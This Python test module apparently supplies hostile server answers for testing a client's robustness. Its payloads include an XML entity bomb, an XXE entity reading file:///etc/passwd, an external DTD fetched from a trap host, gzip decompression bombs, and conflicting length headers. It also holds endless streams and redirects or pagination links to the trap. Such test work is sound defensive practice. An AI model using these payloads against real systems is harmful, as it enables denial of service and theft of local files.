"""What hostile and broken servers answer. ``TRAP`` in a text stands for the address of the trap."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator
from functools import cache

from tests.hostile.proxy import Answer, Malice, plain

TRAP = b"trap-address"
MEGABYTE = 1024 * 1024
DEEP = 100_000


def says(body: bytes, *headers: tuple[str, str], status: int | None = None) -> Malice:
    """The same headers and another body."""

    def malice(answer: Answer) -> Iterator[bytes]:
        yield plain(answer, body, *headers, status=status)

    return malice


def raw(content: bytes) -> Malice:
    """These bytes and nothing else, then the connection ends."""

    def malice(answer: Answer) -> Iterator[bytes]:
        yield content
        raise OSError("gone")

    return malice


def redirect(status: int) -> Malice:
    def malice(answer: Answer) -> Iterator[bytes]:
        yield plain(answer, b"", ("Location", f"http://{TRAP.decode()}/elsewhere"), status=status)

    return malice


def endless(head: bytes, piece: bytes, pieces: int) -> Malice:
    """``pieces`` times the same, far more than anybody may read."""

    def malice(answer: Answer) -> Iterator[bytes]:
        yield head
        for _ in range(pieces):
            yield piece
        raise OSError("gone")

    return malice


@cache
def bomb() -> bytes:
    """200 MB of blanks in 200 KB."""
    packer = zlib.compressobj(9, wbits=31)
    blank = b" " * MEGABYTE
    return b"".join([*(packer.compress(blank) for _ in range(200)), packer.flush()])


def _with_doctype(doctype: bytes, use: bytes) -> Malice:
    """The honest answer's XML with a document type of ours and its first text replaced; JSON is left as plain text."""

    def malice(answer: Answer) -> Iterator[bytes]:
        body = answer.body
        if not body.lstrip().startswith(b"<"):
            yield plain(
                answer, b'<?xml version="1.0"?>' + doctype + b"<x>" + use + b"</x>", ("Content-Type", "text/xml")
            )
            return
        head, _, rest = (
            body.partition(b"?>") if body.lstrip().startswith(b"<?xml") else (b'<?xml version="1.0"', b"", body)
        )
        at = rest.rfind(b"</")
        start = rest.rfind(b">", 0, at) + 1
        yield plain(answer, head + b"?>" + doctype + rest[:start] + use + rest[at:])

    return malice


def _entities() -> bytes:
    levels = ['<!ENTITY a0 "lollollollollollollollollol">']
    levels += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return ("<!DOCTYPE x [" + "".join(levels) + "]>").encode()


def _changed(change: bytes) -> Malice:
    def malice(answer: Answer) -> Iterator[bytes]:
        middle = len(answer.body) // 2
        yield plain(answer, answer.body[:middle] + change + answer.body[middle:])

    return malice


def _truncated(answer: Answer) -> Iterator[bytes]:
    yield plain(answer, answer.body[: len(answer.body) * 2 // 3])


def _as(encoding: str) -> Malice:
    def malice(answer: Answer) -> Iterator[bytes]:
        yield plain(answer, answer.body.decode("utf-8", "replace").encode(encoding, "replace"))

    return malice


def _named(charset: str) -> Malice:
    def malice(answer: Answer) -> Iterator[bytes]:
        kind = answer.content_type().partition(";")[0] or "text/plain"
        yield plain(answer, None, ("Content-Type", f"{kind}; charset={charset}"))

    return malice


def _twice(answer: Answer) -> Iterator[bytes]:
    """Every key a second time, with another value: whoever takes the last one reads what was never said."""
    try:
        honest = json.loads(answer.body)
    except ValueError:
        yield plain(answer, answer.body + answer.body)
        return

    def write(value: object) -> str:
        if isinstance(value, dict):
            pairs = [
                f"{json.dumps(name)}:{write(part)},{json.dumps(name)}:{_other(part)}" for name, part in value.items()
            ]
            return "{" + ",".join(pairs) + "}"
        if isinstance(value, list):
            return "[" + ",".join(write(part) for part in value) + "]"
        return json.dumps(value)

    yield plain(answer, write(honest).encode())


def _other(value: object) -> str:
    return {dict: "{}", list: "[]", str: '"other"'}.get(type(value), "0")


def _linked(answer: Answer) -> Iterator[bytes]:
    """The next page is on another host, whatever the link is called."""
    try:
        honest = json.loads(answer.body)
    except ValueError:
        yield plain(answer, None, ("Link", f'<http://{TRAP.decode()}/next>; rel="next"'))
        return
    link = f"http://{TRAP.decode()}/next"
    if isinstance(honest, dict):
        honest |= {"@odata.nextLink": link, "nextLink": link, "next": link, "odata.nextLink": link}
    yield plain(answer, json.dumps(honest).encode(), ("Location", link))


def _cookies(answer: Answer) -> Iterator[bytes]:
    jar = [
        ("Set-Cookie", f"c{n}={'x' * 100}; Domain={domain}")
        for n, domain in enumerate(["example.com", ".com", "", "127.0.0.2"])
    ]
    yield plain(answer, None, *jar, ("Set-Cookie2", "x"), ("Refresh", f"0; url=http://{TRAP.decode()}/"))


PAGE = b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><form action='http://trap-address/'></form></body></html>"
OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"

MALICE: dict[str, Malice] = {
    "entity-bomb": _with_doctype(_entities(), b"&a11;"),
    "external-file": _with_doctype(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"&e;"),
    "external-address": _with_doctype(
        b'<!DOCTYPE x SYSTEM "http://trap-address/x.dtd" [<!ENTITY % p SYSTEM "http://trap-address/p"> %p;]>', b""
    ),
    "deep-json-arrays": says(b"[" * DEEP + b"]" * DEEP, ("Content-Type", "application/json")),
    "deep-json-objects": says(b'{"value":' * DEEP + b"1" + b"}" * DEEP, ("Content-Type", "application/json")),
    "deep-json-unclosed": says(b'{"a":[' * DEEP, ("Content-Type", "application/json")),
    "deep-xml": says(b"<a>" * DEEP + b"</a>" * DEEP, ("Content-Type", "text/xml")),
    "gzip-bomb": says(bomb(), ("Content-Encoding", "gzip")),
    "gzip-twice": says(gzip.compress(bomb()), ("Content-Encoding", "gzip, gzip")),
    "gzip-broken": says(bomb()[:1000] + b"broken" * 100, ("Content-Encoding", "gzip")),
    "unknown-encoding": says(b"\x0b\x02\x80hello", ("Content-Encoding", "br")),
    "hundred-megabytes": endless(OK + b"Content-Length: 104857600\r\n\r\n", b"[" + b" " * (MEGABYTE - 1), 100),
    "endless-chunks": endless(
        OK + b"Transfer-Encoding: chunked\r\n\r\n", b"100000\r\n" + b" " * MEGABYTE + b"\r\n", 200
    ),
    "until-closed": endless(OK + b"\r\n", b" " * MEGABYTE, 200),
    "huge-header": endless(b"HTTP/1.1 200 OK\r\nX-Huge: ", b"x" * MEGABYTE, 50),
    "endless-headers": endless(b"HTTP/1.1 200 OK\r\n", b"X-More: yes\r\n" * 50_000, 50),
    "endless-status-line": endless(b"HTTP/1.1 200 ", b"O" * MEGABYTE, 50),
    "no-http": raw(b"SSH-2.0-OpenSSH_9.6\r\n"),
    "binary": raw(bytes(range(256)) * 40),
    "negative-length": raw(OK + b"Content-Length: -1\r\n\r\n{}"),
    "two-lengths": raw(OK + b"Content-Length: 2\r\nContent-Length: 4000\r\n\r\n{}"),
    "length-and-chunks": raw(OK + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}"),
    "wrong-chunk": raw(OK + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffffff\r\n{}"),
    "status-999": raw(b"HTTP/1.1 999 Odd\r\nContent-Length: 0\r\n\r\n"),
    "status-000": raw(b"HTTP/1.1 000 Odd\r\nContent-Length: 0\r\n\r\n"),
    "only-hints": raw(b"HTTP/1.1 103 Early Hints\r\n\r\n" * 10),
    "switching": raw(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: upgrade\r\n\r\n\x00\x00"),
    "204": raw(b"HTTP/1.1 204 No Content\r\n\r\n"),
    "304": raw(b"HTTP/1.1 304 Not Modified\r\n\r\n"),
    "206": says(b"{}", ("Content-Range", "bytes 0-1/100"), status=206),
    "html": says(PAGE, ("Content-Type", "text/html")),
    "html-as-sent": says(PAGE),
    "empty": says(b""),
    "null": says(b"null"),
    "nul-bytes": says(b"\x00" * 5000),
    "truncated": _truncated,
    "invalid-utf-8": _changed(b"\xff\xfe\xc3\x28\xed\xa0\x80"),
    "lone-surrogate": _changed(b'"\\ud800'),
    "bom": _changed(b"\xef\xbb\xbf"),
    "utf-16": _as("utf-16"),
    "utf-32": _as("utf-32"),
    "charset-utf-7": _named("utf-7"),
    "charset-unknown": _named("no-such-charset"),
    "charset-idna": _named("idna"),
    "charset-zip": _named("zip"),
    "keys-twice": _twice,
    "not-a-number": says(b'{"value": NaN, "total": Infinity, "items": -Infinity}'),
    "huge-number": says(b'{"value": 1e999999999, "total": ' + b"9" * 5000 + b"}"),
    "next-page-elsewhere": _linked,
    "cookies-of-others": _cookies,
    "redirect-301": redirect(301),
    "redirect-302": redirect(302),
    "redirect-303": redirect(303),
    "redirect-307": redirect(307),
    "redirect-308": redirect(308),
    "redirect-nowhere": says(b"", ("Location", "http://[::bad"), status=302),
}


def aimed(malice: Malice, trap_port: int) -> Malice:
    """The malice with the trap's address in it."""

    def with_address(answer: Answer) -> Iterator[bytes]:
        for piece in malice(answer):
            yield piece.replace(TRAP, f"127.0.0.1:{trap_port}".encode()) if len(piece) < MEGABYTE else piece

    return with_address
